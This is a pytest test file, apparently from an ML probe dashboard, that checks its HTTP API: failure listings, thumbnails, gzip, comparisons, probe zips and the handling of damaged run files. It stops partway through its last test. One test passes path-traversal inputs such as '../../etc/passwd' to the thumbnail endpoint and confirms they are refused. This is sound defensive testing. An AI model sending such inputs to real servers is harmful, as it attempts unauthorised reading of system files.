"""Failing samples and thumbnails over HTTP: the most confident mistakes of a class, images only of listed sources,
and compare deltas with their paired intervals."""
from __future__ import annotations

import io
import json
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from app_testutils import head_named_too, replaced_meanwhile
from app.predicted_near import NearTrain
from probe import load_report
from probe.predictions import Predictions


def _run_dir(finished, run_id):
    return finished.client.get(f"/api/runs/{run_id}").json()


def test_failures_are_a_class_s_most_confident_mistakes(finished):
    client = finished.client
    report = load_report(finished.settings.runs_dir / finished.erm)
    stored = Predictions.load(finished.settings.runs_dir / finished.erm)
    for k, name in enumerate(report.class_names):
        resp = client.get(f"/api/runs/{finished.erm}/failures", params={"class": name, "limit": 200})
        assert resp.status_code == 200
        body = resp.json()
        wrong = np.flatnonzero((stored.labels == k) & (stored.predicted[0] != k))
        assert body["class"] == name and body["total"] == len(wrong) == len(body["items"])
        assert [i["index"] for i in body["items"]] == sorted(wrong, key=lambda i: (stored.label_probability[i],
                                                                                  -stored.confidence[i]))
        assert [i["label_probability"] for i in body["items"]] == pytest.approx(stored.label_probability[
            [i["index"] for i in body["items"]]].tolist())
        for item in body["items"]:
            assert item["true"] == name and item["predicted"] != name
            assert item["thumbnail_url"].startswith(f"/api/datasets/{finished.dataset['id']}/thumbnail?source=")
    assert sum(len(client.get(f"/api/runs/{finished.erm}/failures", params={"class": n}).json()["items"])
               for n in report.class_names) > 0, "the fixture run makes no mistake: this test would prove nothing"


def test_failures_of_one_confusion_cell(finished):
    """``predicted=`` narrows a class's mistakes to one predicted class: the first seed's cell of the confusion
    matrix, every such image and no other."""
    client = finished.client
    report = load_report(finished.settings.runs_dir / finished.erm)
    predictions = Predictions.load(finished.settings.runs_dir / finished.erm)
    names = report.class_names
    cells = 0
    for t, true in enumerate(names):
        for p, pred in enumerate(names):
            if t == p:
                continue
            body = client.get(f"/api/runs/{finished.erm}/failures",
                              params={"class": true, "predicted": pred, "limit": 200}).json()
            expected = np.flatnonzero((predictions.labels == t) & (predictions.predicted[0] == p))
            assert body["predicted"] == pred and body["total"] == len(expected)
            assert sorted(item["index"] for item in body["items"]) == expected.tolist()
            assert all(item["true"] == true and item["predicted"] == pred for item in body["items"])
            cells += len(expected) > 0
    assert cells > 0, "the fixture run makes no mistake: this test would prove nothing"
    every = client.get(f"/api/runs/{finished.erm}/failures", params={"class": names[0]}).json()
    assert every["predicted"] is None
    same = client.get(f"/api/runs/{finished.erm}/failures", params={"class": names[0], "predicted": names[0]})
    assert same.status_code == 422 and same.json()["detail"].startswith("predicted: names the class itself")
    unknown = client.get(f"/api/runs/{finished.erm}/failures", params={"class": names[0], "predicted": "unicorn"})
    assert unknown.status_code == 422 and unknown.json()["detail"].startswith("predicted: 'unicorn' is not a class")


def test_failure_thumbnails_are_images(finished):
    client = finished.client
    items = [i for n in load_report(finished.settings.runs_dir / finished.erm).class_names
             for i in client.get(f"/api/runs/{finished.erm}/failures", params={"class": n}).json()["items"]]
    resp = client.get(items[0]["thumbnail_url"])
    assert resp.status_code == 200 and resp.headers["content-type"] == "image/png"
    image = Image.open(io.BytesIO(resp.content))
    assert image.format == "PNG" and max(image.size) <= 128
    small = client.get(items[0]["thumbnail_url"] + "&size=16")
    assert max(Image.open(io.BytesIO(small.content)).size) <= 16
    assert "content-encoding" not in resp.headers  # a PNG is not gzipped again


def test_json_and_pages_are_gzipped_for_a_client_that_accepts_it(finished):
    """A 1,000-class report.json was 777 KB on the wire and the lists of data sets and caches 300 KB (a 1,000-class
    round): bodies over 1 KB are gzipped where the client accepts it, the same bytes once decoded."""
    import gzip

    client = finished.client
    for path in (f"/api/reports/{finished.erm}", f"/api/reports/{finished.erm}.html", "/openapi.json"):
        plain = client.get(path, headers={"Accept-Encoding": "identity"})
        packed = client.get(path, headers={"Accept-Encoding": "gzip"})
        assert "content-encoding" not in plain.headers and packed.headers["content-encoding"] == "gzip", path
        with client.stream("GET", path, headers={"Accept-Encoding": "gzip"}) as raw:
            wire = b"".join(raw.iter_raw())
        assert gzip.decompress(wire) == plain.content == packed.content and len(wire) < len(plain.content), path
        for refused in ("gzip;q=0", "deflate, gzip; q=0.0, identity"):  # q=0 refuses it (an operator round)
            assert "content-encoding" not in client.get(path, headers={"Accept-Encoding": refused}).headers, refused
        assert client.get(path, headers={"Accept-Encoding": "br, gzip;q=0.5"}).headers["content-encoding"] == "gzip"


@pytest.mark.parametrize("source", ["../../etc/passwd", "/etc/passwd", "tiny/train/../../secret.png",
                                    "tiny/train/cat/missing.png", "x" * 1025])
def test_thumbnails_of_unlisted_sources_are_refused(finished, source):
    resp = finished.client.get(f"/api/datasets/{finished.dataset['id']}/thumbnail", params={"source": source})
    assert resp.status_code in (404, 422) and "detail" in resp.json()
    assert resp.status_code == (422 if len(source) > 1024 else 404)


def test_failures_of_every_class_in_one_ranking(finished):
    """Without `class`: every class's mistakes, the likeliest wrong labels first, as `mr2probe failures RUN` lists
    them (a noisy-labels round had to ask class by class); with `predicted` alone, what went to that class."""
    client = finished.client
    stored = Predictions.load(finished.settings.runs_dir / finished.erm)
    names = client.get(f"/api/reports/{finished.erm}").json()["class_names"]
    body = client.get(f"/api/runs/{finished.erm}/failures", params={"limit": 200}).json()
    wrong = np.flatnonzero(stored.predicted[0] != stored.labels)
    assert body["class"] is None and body["total"] == len(wrong) > 0
    assert [i["index"] for i in body["items"]] == sorted(wrong, key=lambda i: (stored.label_probability[i],
                                                                              -stored.confidence[i]))[:200]
    assert body["total"] == sum(client.get(f"/api/runs/{finished.erm}/failures", params={"class": n}).json()["total"]
                                for n in names)
    to = names[int(stored.predicted[0][wrong[0]])]
    cell = client.get(f"/api/runs/{finished.erm}/failures", params={"predicted": to}).json()
    assert cell["total"] == int(((stored.predicted[0] == names.index(to)) & (stored.labels != names.index(to))).sum())
    assert {i["predicted"] for i in cell["items"]} == {to}


def test_failures_errors(finished):
    client = finished.client
    unknown = client.get(f"/api/runs/{finished.erm}/failures", params={"class": "unicorn"})
    assert unknown.status_code == 422
    names = client.get(f"/api/reports/{finished.erm}").json()["class_names"]
    assert unknown.json()["detail"] == f"class: 'unicorn' is not a class of this run; its classes: {', '.join(names)}"
    assert client.get(f"/api/runs/{finished.erm}/failures", params={"class": "x", "limit": 0}).status_code == 422
    assert client.get("/api/runs/run_nope/failures", params={"class": "x"}).status_code == 404
    assert client.get("/api/datasets/ds_nope/thumbnail", params={"source": "a.png"}).status_code == 404
    # the sample asked for is named as sent, not as a server path (an extremes round)
    resp = client.get(f"/api/datasets/{finished.dataset['id']}/thumbnail", params={"source": "/etc/passwd"})
    assert resp.status_code == 404 and resp.json()["detail"] == "sample '/etc/passwd' not found"


def test_compare_has_paired_intervals_and_a_verdict(finished):
    body = finished.client.get("/api/compare", params={"base": finished.erm, "other": finished.mr2}).json()
    for key in ("overall", "easy", "medium", "hard"):
        lo, hi = body["metrics"][key]["delta_ci"]
        assert lo <= body["metrics"][key]["delta"] <= hi
    assert all(len(row["delta_ci"]) == 2 for row in body["per_class"])
    assert body["verdict_text"].startswith("Hard third ")
    d = body["discordant"]  # the images the runs differ on, counted from the stored predictions
    right = [Predictions.load(finished.settings.runs_dir / run).correct for run in (finished.erm, finished.mr2)]
    assert (d["images"], d["other_better"], d["base_better"]) == (
        right[0].size, int((right[1] > right[0]).sum()), int((right[1] < right[0]).sum()))
    assert 0 < d["p_value"] <= 1 and "test images" in body["verdict_text"]


def test_probe_zip_predicts_what_the_run_stored(finished, tmp_path):
    """The downloaded probe, unpacked, is the run's: ``RunProbe.load`` on it predicts the cache's test split as
    the run's first seed did (``predictions.npz``)."""
    import zipfile

    from feature_cache import open_cache
    from probe.deploy import RunProbe

    client = finished.client
    for run_id in (finished.erm, finished.mr2):
        resp = client.get(f"/api/runs/{run_id}/probe.zip")
        assert resp.status_code == 200 and resp.headers["content-type"] == "application/zip"
        assert resp.headers["content-disposition"] == f'attachment; filename="{run_id}_probe.zip"'
        with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
            assert sorted(archive.namelist()) == [f"{run_id}/{n}" for n in ("USAGE.md", "apply_probe.py",
                                                                           "head.json", "head.safetensors",
                                                                           "probe.onnx", "report.json",
                                                                           "seen_sources.npz")]
            # what the probe takes and how to apply it (a dashboard-only round found no word of either)
            usage = archive.read(f"{run_id}/USAGE.md").decode()
            assert "It takes features of the encoder effnet-lite0" in usage
            assert f"mr2probe predict {run_id} --features new.h5 --out predictions.csv" in usage
            assert f"probe = RunProbe.load('{run_id}')" in usage
            assert "`temperature.json` where this zip has them: the bias added to the logits, then the\ntemperature" in usage
            archive.extractall(tmp_path)
        probe = RunProbe.load(tmp_path / run_id)
        # the images it trained and selected on travel with it: mr2probe predict on the unpacked folder warns on
        # them as on the run's own (the zip left seen_sources.npz behind, and the check with it)
        own = RunProbe.load(finished.settings.runs_dir / run_id).seen
        assert probe.seen is not None and probe.seen.digests.keys() == own.digests.keys()
        assert all(np.array_equal(probe.seen.digests[split], own.digests[split]) for split in own.digests)
        (path,) = finished.settings.caches_dir.rglob("*.h5")  # the pipeline's one cache
        cache = open_cache(path)
        assert probe.check_features(probe.features, cache.num_features) == []
        predicted, confidence = probe.predict_with_confidence(cache.load("test")[0])
        stored = Predictions.load(finished.settings.runs_dir / run_id)
        np.testing.assert_array_equal(predicted, stored.predicted[0])
        np.testing.assert_array_equal(confidence, stored.confidence)
        _apply_probe_py_predicts_the_same(tmp_path, run_id, cache.load("test")[0], stored)
        _probe_onnx_predicts_the_same(tmp_path / run_id, cache.load("test")[0], stored)


def _probe_onnx_predicts_the_same(folder, features, stored):
    """The zip's probe.onnx in ONNX Runtime: the stored predictions and confidences, its metadata the run's classes
    and features (a serving stack that runs the encoder in ONNX took the probe as Python code only)."""
    import json

    import onnx
    import onnxruntime

    model = onnx.load(str(folder / "probe.onnx"))
    meta = {p.key: p.value for p in model.metadata_props}
    report = load_report(folder)
    assert json.loads(meta["class_names"]) == report.class_names
    assert json.loads(meta["features"])["fingerprint"] == report.features.fingerprint
    session = onnxruntime.InferenceSession(model.SerializeToString(), providers=["CPUExecutionProvider"])
    probabilities, _ = session.run(None, {"features": np.asarray(features, dtype=np.float32)})
    np.testing.assert_array_equal(probabilities.argmax(axis=1), stored.predicted[0])
    np.testing.assert_allclose(probabilities.max(axis=1), stored.confidence, rtol=0, atol=2e-5)


def _apply_probe_py_predicts_the_same(folder, run_id, features, stored):
    """The zip's apply_probe.py, run alone from the unpacked folder (no mr2probe on the path), prints each image's
    class and confidence as the run stored them (a shipping round: the zip held no code for serving without
    mr2probe, only a description of the forward pass)."""
    import os
    import subprocess
    import sys

    np.save(folder / "features.npy", features)
    env = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    # the command USAGE.md gives, as it gives it, from the folder the zip unpacked into (it said 'python
    # apply_probe.py RUN features.npy', a file that is not there: apply_probe.py lies in the run's folder)
    usage = (folder / run_id / "USAGE.md").read_text(encoding="utf-8")
    command = f"python {run_id}/apply_probe.py {run_id} features.npy"
    assert f"`{command}`" in usage
    assert f"`{command}`, which prints a line per row of features.npy:\nthe predicted class, a tab, its confidence)" in usage
    out = subprocess.run([sys.executable, "-I", *command.split()[1:]], cwd=folder, env=env,
                         capture_output=True, text=True, check=True).stdout.splitlines()
    code = usage.split("code without mr2probe (from the folder this zip unpacks into: `")[1]
    code = code.replace("`, then\n`", "\n").split("`, `x` the features")[0].replace("; ", "\n")
    script = f"import sys, numpy as np\nx = np.load('features.npy')\n{code}\nprint(probabilities.shape)"
    shape = (features.shape[0], len(load_report(folder / run_id).class_names))
    assert subprocess.run([sys.executable, "-I", "-c", script], cwd=folder, env=env, capture_output=True,
                          text=True, check=True).stdout.strip() == str(shape)
    names, confidence = zip(*(line.split("\t") for line in out))
    report = load_report(folder / run_id)
    assert list(names) == [report.class_names[k] for k in stored.predicted[0]]
    np.testing.assert_allclose(np.array(confidence, dtype=float), stored.confidence, rtol=0, atol=2e-6)


def test_probe_zip_of_a_missing_run_or_file_is_404(finished, tmp_path):
    client = finished.client
    assert client.get("/api/runs/nope/probe.zip").status_code == 404
    head = finished.settings.runs_dir / finished.erm / "head.json"
    moved = tmp_path / "head.json"
    head.rename(moved)
    try:
        resp = client.get(f"/api/runs/{finished.erm}/probe.zip")
    finally:
        moved.rename(head)
    assert resp.status_code == 404 and "lacks head.json" in resp.json()["detail"]


def test_scores_carry_the_hint_for_a_class_renamed_since_the_run(finished, monkeypatch):
    """mr2probe predict hints at a class renamed since the run (its images of a class the run lacks, predicted as
    one of its classes without images here); the dashboard's score panel had no word of it. GET .../scores carries
    the CLI's hint (app.shipped.unknown_hint), null where there is none."""
    from dataclasses import replace

    from app.routes import reports
    from probe.deploy import UNKNOWN_CLASS

    client = finished.client
    run = client.get(f"/api/runs/{finished.mr2}").json()
    plain = client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": run["cache_id"]}).json()
    assert plain["unknown_hint"] is None
    real = reports._predicted

    def renamed(*args, **kwargs):  # the images of the run's first class, named 'puppy' now, predicted as it
        row, probe, got = real(*args, **kwargs)
        first = np.asarray(got.labels) == 0
        names = ["puppy" if f else n for f, n in zip(first, got.names)]
        return row, probe, replace(got, labels=np.where(first, UNKNOWN_CLASS, got.labels), names=names,
                                   predicted=np.where(first, 0, got.predicted))

    monkeypatch.setattr(reports, "_predicted", renamed)
    body = client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": run["cache_id"]}).json()
    first = body["per_class"][0]["name"]
    assert "puppy" in body["unknown"] and body["unknown_hint"].startswith(
        f"Most of them ({body['unknown']['puppy']} of {body['unknown']['puppy']}) were predicted as {first!r}, which "
        "has no images here: a class renamed since the run? Labels match the run's classes by name"), body


def test_scores_of_a_run_on_a_registered_cache(finished):
    """GET /api/runs/{id}/scores?cache=: the shipped probe on a cache's split; on its own test split it equals the
    report's first seed, and its accuracy is that seed's."""
    client = finished.client
    run = client.get(f"/api/runs/{finished.mr2}").json()
    resp = client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": run["cache_id"]})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    stored = Predictions.load(finished.settings.runs_dir / finished.mr2)
    assert body["split"] == "test" and body["images"] == body["n"] == len(stored.labels) and body["unknown"] == {}
    assert body["matches_report"] == {"equal": len(stored.labels), "images": len(stored.labels)}
    assert body["accuracy"] == pytest.approx(float((stored.predicted[0] == stored.labels).mean()))
    lo, hi = body["accuracy_ci"]
    # no other warning than the near-duplicate check's line (app.predicted_near, the report's on its own test split),
    # which is one where some image duplicates a train or val image (the fixture's look-alike shapes pass none)
    near = NearTrain(**body["near_train"])
    assert lo <= body["accuracy"] <= hi and body["warnings"] == ([near.describe()] if near.near else [])
    assert [c["name"] for c in body["per_class"]] == load_report(finished.settings.runs_dir / finished.mr2).class_names
    # each class's precision, recall and F1 with the report's intervals (precision_recall_f1_intervals) of these
    # predictions: they were bare
    from probe.uncertainty import precision_recall_f1_intervals

    want = precision_recall_f1_intervals(stored.labels, stored.predicted[0], len(body["per_class"]))
    for key in ("precision", "recall", "f1"):
        for row, ends in zip(body["per_class"], want[key]):
            assert (row[f"{key}_ci"] is None) if np.isnan(ends).any() else np.allclose(row[f"{key}_ci"], ends), key
    train = client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": run["cache_id"], "split": "train"})
    assert train.status_code == 200 and train.json()["matches_report"] is None


def test_scores_of_bad_requests_are_4xx(finished):
    client = finished.client
    cache_id = client.get(f"/api/runs/{finished.mr2}").json()["cache_id"]
    assert client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": "nope"}).status_code == 404
    assert client.get("/api/runs/nope/scores", params={"cache": cache_id}).status_code == 404
    assert client.get(f"/api/runs/{finished.mr2}/scores", params={"cache": cache_id, "split": "all"}).status_code == 422
    assert client.get(f"/api/runs/{finished.mr2}/scores").status_code == 422  # cache is required


def test_scores_on_features_of_another_encoder_are_422(fresh_finished, tmp_path):
    from app_testutils import synthetic_cache

    client = fresh_finished.client
    other = synthetic_cache(client.app.state.store, tmp_path)  # 8-d features of a "synthetic" encoder
    resp = client.get(f"/api/runs/{fresh_finished.mr2}/scores", params={"cache": other["id"]})
    assert resp.status_code == 422 and "takes 1280-d features; these have 8" in resp.json()["detail"]
    # a reference run of other classes is refused at submission, not after the job's queue wait
    resp = client.post("/api/jobs", json={"kind": "probe", "cache_id": other["id"], "reference_run": fresh_finished.erm,
                                          "config": {"loss": "mr2"}})
    assert resp.status_code == 422, resp.text
    assert resp.json()["detail"].startswith(f"reference_run: run {fresh_finished.erm!r} has other classes than cache")
    assert client.get("/api/jobs").json()[0]["id"] == fresh_finished.job["id"]  # no job was made


def test_several_runs_compared_name_the_one_that_cannot_be(fresh_finished, tmp_path):
    """GET /api/compare/many with a run of other classes among the others said "runs have different classes" and
    not which of the runs it was, where mr2probe compare RUN_A RUN_B RUN_C names it."""
    from app_testutils import ERM, synthetic_cache, wait_job

    client = fresh_finished.client
    other = synthetic_cache(client.app.state.store, tmp_path)  # classes a, b, c
    job = client.post("/api/jobs", json={"kind": "probe", "cache_id": other["id"], "config": ERM}).json()
    (odd,) = wait_job(client, job["id"])["result"]["run_ids"]
    for path in ("/api/compare/many", "/api/compare/many.md"):
        resp = client.get(path, params={"base": fresh_finished.erm, "other": [fresh_finished.mr2, odd]})
        assert resp.status_code == 422, resp.text
        assert resp.json()["detail"].startswith(f"run {odd!r} against {fresh_finished.erm!r}: runs have different "
                                                "classes and cannot be compared")


def test_scores_on_a_cache_removed_from_disk_are_404(fresh_finished, tmp_path):
    from app_testutils import synthetic_cache

    client = fresh_finished.client
    gone = synthetic_cache(client.app.state.store, tmp_path)
    (tmp_path / "synthetic.h5").unlink()
    resp = client.get(f"/api/runs/{fresh_finished.mr2}/scores", params={"cache": gone["id"]})
    assert resp.status_code == 404 and resp.json()["detail"] == f"cache {gone['id']!r}: its file is gone from the server"


def test_predictions_csv_is_the_cli_predict_out(finished, tmp_path):
    """GET /api/runs/{id}/predictions.csv: the rows `mr2probe predict --out` writes, on the run's own test split
    the report's first-seed predictions."""
    import csv
    import io

    from app.cli import main

    client = finished.client
    cache_id = client.get(f"/api/runs/{finished.mr2}").json()["cache_id"]
    resp = client.get(f"/api/runs/{finished.mr2}/predictions.csv", params={"cache": cache_id})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert f'filename="{finished.mr2}_{cache_id}_test_predictions.csv"' in resp.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    stored = Predictions.load(finished.settings.runs_dir / finished.mr2)
    names = client.get(f"/api/reports/{finished.mr2}").json()["class_names"]
    assert [r["predicted"] for r in rows] == [names[i] for i in stored.predicted[0]]
    out = tmp_path / "p.csv"
    path = client.app.state.store.get_cache(cache_id)["path"]
    assert main(["predict", str(finished.settings.runs_dir / finished.mr2), "--features", path, "--out", str(out)]) == 0
    assert out.read_bytes() == resp.content  # byte for byte what the CLI writes
    assert client.get(f"/api/runs/{finished.mr2}/predictions.csv", params={"cache": "nope"}).status_code == 404


def test_compare_on_a_cache_scores_both_shipped_probes(finished):
    """GET /api/compare?cache=: both runs' first seeds on the cache's split, paired; on the runs' own test split
    every accuracy is that of their stored first-seed predictions."""
    client = finished.client
    cache_id = client.get(f"/api/runs/{finished.mr2}").json()["cache_id"]
    resp = client.get("/api/compare", params={"base": finished.erm, "other": finished.mr2, "cache": cache_id})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    first = {run: Predictions.load(finished.settings.runs_dir / run) for run in (finished.erm, finished.mr2)}
    images = len(first[finished.erm].labels)
    assert body["scored_on"] == f"cache {cache_id!r}, split test ({images} images)"  # named as /scores names it

    for side, run in (("base", finished.erm), ("other", finished.mr2)):
        stored = first[run]
        assert body["metrics"]["overall"][side] == pytest.approx(float((stored.predicted[0] == stored.labels).mean()))
    assert body["discordant"]["images"] == images and body["metrics"]["hard"]["delta_ci"] is not None
    md = client.get("/api/compare.md", params={"base": finished.erm, "other": finished.mr2, "cache": cache_id})
    assert md.status_code == 200 and "shipped probes (first seed) on cache" in md.text
    assert client.get("/api/compare", params={"base": finished.erm, "other": finished.mr2,
                                              "cache": "nope"}).status_code == 404
    # nothing but the near-duplicate check of the runs' train and val images, as mr2probe predict says it
    assert [w for w in body["warnings"] if not w.startswith("Near-duplicates of the run's train")] == []
    train = client.get("/api/compare", params={"base": finished.erm, "other": finished.mr2, "cache": cache_id,
                                               "split": "train"}).json()
    assert any("train images of the run's own cache" in w for w in train["warnings"]), train["warnings"]
    # a job's run keeps its train and val sources' digests, which flag them on another cache of its data set
    from feature_cache import open_cache
    from probe.seen import SeenSources, common_folder, source_digests

    seen, cache = SeenSources.load(finished.settings.runs_dir / finished.mr2), open_cache(
        client.app.state.store.get_cache(cache_id)["path"])
    for split in ("train", "val"):
        shared = common_folder(p for name in cache.splits for p in cache.sources(name))  # the zip's top folder
        assert shared == "tiny/"
        np.testing.assert_array_equal(seen.digests[split],
                                      source_digests(p[len(shared):] for p in cache.sources(split)))


def test_route_errors_quote_no_server_path_and_bad_labels_are_422(fresh_finished, tmp_path):
    """A route's own 4xx goes through the same cleaning as the library errors' (a missing head, a damaged cache);
    a cache label that is no class is a 422 naming it (it was an IndexError: 500)."""
    import shutil

    import h5py

    client, store, mr2 = fresh_finished.client, fresh_finished.client.app.state.store, fresh_finished.mr2
    cache = store.get_cache(client.get(f"/api/runs/{mr2}").json()["cache_id"])
    bad = tmp_path / "bad labels.h5"
    shutil.copy(cache["path"], bad)
    with h5py.File(bad, "r+") as h5:
        h5["test"]["labels"][0] = 99
    row = store.add_cache(dataset_id=cache["dataset_id"], encoder=cache["encoder"], path=str(bad),
                          fingerprint="b" * 64, num_features=cache["num_features"],
                          class_names=cache["class_names"], counts=cache["counts"], job_id=None)
    for params in ({"cache": row["id"]}, {"cache": row["id"], "base": fresh_finished.erm, "other": mr2}):
        url = f"/api/runs/{mr2}/scores" if "base" not in params else "/api/compare"
        resp = client.get(url, params=params)
        assert resp.status_code == 422 and "split 'test' has 1 labels outside 0..2" in resp.json()["detail"], resp.text
        assert str(tmp_path) not in resp.text
    (fresh_finished.settings.runs_dir / mr2 / "head.safetensors").unlink()
    for url in (f"/api/runs/{mr2}/probe.zip", f"/api/runs/{mr2}/scores?cache={cache['id']}"):
        resp = client.get(url)
        assert resp.status_code == 404 and "head.safetensors" in resp.json()["detail"], resp.text
        assert str(fresh_finished.settings.data_dir) not in resp.text and "<data dir>" in resp.text


@pytest.mark.parametrize("damage", ['{"schema_version": 2, "garbage": ', '{"schema_version": 2, "run_id": 1}',
                                    '{"schema_version": 99}', "selected", "[" * 100_000 + "]" * 100_000,
                                    "extra class", "class dropped", "class twice", "two thirds", "negative support",
                                    "other thirds", "one-number interval", "negative confusion", "metric a list",
                                    "huge confusion count", "bin without accuracy"])
def test_a_report_damaged_on_disk_is_a_422_naming_the_run_on_every_route(fresh_finished, damage):
    """Also JSON nested too deep (a RecursionError: 500 on 8 routes) and class_names edited to another count than
    the per-class fields (compare answered 500 with an IndexError, the reports rendered it; an attack round)."""
    client, run_id = fresh_finished.client, fresh_finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / "report.json"
    report = json.loads(path.read_text())
    if damage == "selected":  # a field of the config of another type: the md / html exports answered 500
        damage = json.dumps({**report, "config": {**report["config"], "selected": "zz"}})
    elif damage in ("extra class", "class dropped"):
        names = report["class_names"] + ["zz"] if damage == "extra class" else report["class_names"][:-1]
        damage = json.dumps({**report, "class_names": names})
    elif damage == "class twice":  # scores and failures took either class for the name (an attack round)
        names = [report["class_names"][0]] * 2 + report["class_names"][2:]
        rows = [dict(r, name=names[i]) for i, r in enumerate(report["per_class"])]
        damage = json.dumps({**report, "class_names": names, "per_class": rows})
    elif damage == "two thirds":  # class 0 in two thirds, class 1 in none: a reference's groups failed its job
        damage = json.dumps({**report, "grouping": {**report["grouping"],
                                                    "groups": {"easy": [0], "medium": [0], "hard": [2]}}})
    elif damage == "other thirds":  # compare answered 500 (KeyError 'medium')
        damage = json.dumps({**report, "grouping": {**report["grouping"], "groups": {"a": [0], "b": [1], "c": [2]}}})
    elif damage == "one-number interval":  # the md / html exports answered 500 (IndexError)
        damage = json.dumps({**report, "summary": {**report["summary"], "overall_ci": [0.5]}})
    elif damage == "negative confusion":
        damage = json.dumps({**report, "confusion": {"split": "test", "counts": [[-1] * 3] * 3}})
    elif damage == "huge confusion count":  # the md / html exports answered 500 (OverflowError)
        damage = json.dumps({**report, "confusion": {"split": "test", "counts": [[10**30] * 3] * 3}})
    elif damage == "bin without accuracy":  # an empty bin given images: the html export answered 500 (TypeError)
        bins = [dict(b, count=b["count"] or 1) for b in report["calibration"]["bins"]]
        damage = json.dumps({**report, "calibration": {**report["calibration"], "bins": bins}})
    elif damage == "metric a list":  # compare answered 500 (TypeError: unhashable type: 'list')
        damage = json.dumps({**report, "config": {**report["config"], "overall_metric": []}})
    elif damage == "negative support":
        damage = json.dumps({**report, "per_class": [dict(report["per_class"][0], support=-5),
                                                     *report["per_class"][1:]]})
    path.write_text(damage)
    for url in (f"/api/reports/{run_id}", f"/api/reports/{run_id}.md", f"/api/reports/{run_id}.html",
                f"/api/reports/{run_id}.csv", f"/api/runs/{run_id}/probe.zip",
                f"/api/runs/{run_id}/failures?class=a", f"/api/runs/{run_id}/scores?cache={cache_id}",
                f"/api/runs/{run_id}/predictions.csv?cache={cache_id}",
                f"/api/compare?base={fresh_finished.erm}&other={run_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert f"{run_id!r} cannot be" in resp.json()["detail"], (url, resp.text)
        assert "report.json" in resp.json()["detail"] and str(client.app.state.settings.data_dir) not in resp.text


def damage_run_file(finished, name: str, edit) -> tuple:
    """(client, run id, cache id, path) of ``finished``'s MR² run, its file ``name`` (an .npz) cut short where
    ``edit`` is None, else rewritten with ``edit`` applied to its arrays (a dict it changes in place)."""
    client, run_id = finished.client, finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / name
    if edit is None:
        path.write_bytes(path.read_bytes()[:100])
    else:
        with np.load(path) as data:
            arrays = dict(data)
        edit(arrays)
        with open(path, "wb") as out:
            np.savez(out, **arrays)
    return client, run_id, cache_id, path


@pytest.mark.parametrize("damage", ["cut short", "class 99", "float labels", "nan confidence", "scalar labels",
                                    "no seed"])
def test_predictions_damaged_on_disk_are_a_422_not_a_500(fresh_finished, damage):
    """A run's predictions.npz cut short on disk: failures and compare answered 500 (BadZipFile; found by an outside
    attack round), and so did a predicted class 99 of 3 (IndexError), while float labels and nan confidences were
    read as they came (a later attack round). They now answer 422 naming the file; scores, computed from the cache,
    still answer."""
    def edit(arrays):
        if damage == "class 99":
            arrays["predicted"][0, :3] = 99
        elif damage == "float labels":
            arrays["labels"] = arrays["labels"] + 0.5
        elif damage == "scalar labels":  # IndexError (a 500) on failures, compare and scores
            arrays["labels"] = arrays["labels"][0]
        elif damage == "no seed":  # predicted (0, n): IndexError (a 500) on failures
            arrays["predicted"] = arrays["predicted"][:0]
        else:
            arrays["confidence"][0] = np.nan

    client, run_id, cache_id, _ = damage_run_file(fresh_finished, "predictions.npz",
                                                  None if damage == "cut short" else edit)
    for url in (f"/api/runs/{run_id}/failures?class=cat", f"/api/compare?base={fresh_finished.erm}&other={run_id}",
                f"/api/compare.html?base={fresh_finished.erm}&other={run_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert f"predictions.npz of run {run_id} cannot be read (damaged or cut short?)" in resp.json()["detail"], url
        assert str(client.app.state.settings.data_dir) not in resp.text
    resp = client.get(f"/api/runs/{run_id}/scores?cache={cache_id}")
    assert resp.status_code == 200 and resp.json()["matches_report"] is None, resp.text


@pytest.mark.parametrize("version", [None, [], {}, True, "1"])
def test_a_head_json_whose_format_version_is_no_number_is_a_422(fresh_finished, version):
    """head.json's format_version of another type (null, a list, an object) answered every route that applies the run
    with a 500 (TypeError from int(); an attack round); true and "1" were read as version 1."""
    client, run_id = fresh_finished.client, fresh_finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / "head.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "format_version": version}))
    for url in (f"/api/runs/{run_id}/probe.zip", f"/api/runs/{run_id}/scores?cache={cache_id}",
                f"/api/runs/{run_id}/predicted?cache={cache_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert resp.json()["detail"] == (f"run {run_id!r} cannot be applied: head.json is not a saved probe: "
                                         f"format_version {str(version)!r} is not a whole number"), (url, resp.text)


@pytest.mark.parametrize("damage", ["unknown head", "head without a name", "class past int64", "options a list"])
def test_a_head_json_that_cannot_rebuild_the_head_is_a_422(fresh_finished, damage):
    """head.json naming a head no registry holds, its head without a name, a class past int64 or head options of
    another type answered every route that applies the run with a 500 (KeyError, OverflowError, TypeError; an attack
    round)."""
    client, run_id = fresh_finished.client, fresh_finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / "head.json"
    head = json.loads(path.read_text())
    if damage == "unknown head":
        head["head"]["name"] = "zz"
    elif damage == "head without a name":
        del head["head"]["name"]
    elif damage == "class past int64":
        head["classes"][0] = 10**30
    else:
        head["head"]["options"] = []
    path.write_text(json.dumps(head))
    for url in (f"/api/runs/{run_id}/probe.zip", f"/api/runs/{run_id}/scores?cache={cache_id}",
                f"/api/runs/{run_id}/predictions.csv?cache={cache_id}"):
        resp = client.get(url)
